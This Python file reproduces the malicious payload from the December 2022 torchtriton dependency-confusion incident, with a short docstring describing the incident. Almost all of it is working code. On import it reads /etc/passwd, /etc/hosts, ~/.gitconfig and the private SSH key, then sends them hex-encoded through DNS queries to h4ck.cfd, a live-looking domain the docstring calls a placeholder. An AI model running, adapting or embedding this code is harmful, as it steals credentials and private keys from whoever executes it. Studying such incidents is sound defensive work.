"""Incident: torchtriton dependency confusion (PyPI), 25-30 December 2022.

PyTorch nightly builds depended on `torchtriton` from PyTorch's own index, but pip's
--extra-index-url let a same-named package on PyPI win. The malicious package read
/etc/passwd, the user's SSH keys, .gitconfig and the first files of $HOME, and sent them
hex-encoded in DNS queries to the attacker's domain.
Reference: https://pytorch.org/blog/compromised-nightly-dependency/
Reproduction (own code, placeholder domain).
"""

import binascii
import os
import socket

DOMAIN = "h4ck.cfd"


def _collect() -> bytes:
    out = [socket.gethostname(), os.getlogin(), os.getcwd()]
    home = os.path.expanduser("~")
    for name in ("/etc/passwd", "/etc/hosts", f"{home}/.gitconfig", f"{home}/.ssh/id_rsa"):
        try:
            with open(name, "rb") as handle:
                out.append(handle.read().decode("latin-1"))
        except OSError:
            continue
    return "\n".join(out).encode()


def _send(data: bytes) -> None:
    hexed = binascii.hexlify(data).decode()
    for i in range(0, len(hexed), 60):
        try:
            socket.gethostbyname(f"{hexed[i:i + 60]}.{i // 60}.{DOMAIN}")
        except OSError:
            pass


_send(_collect())
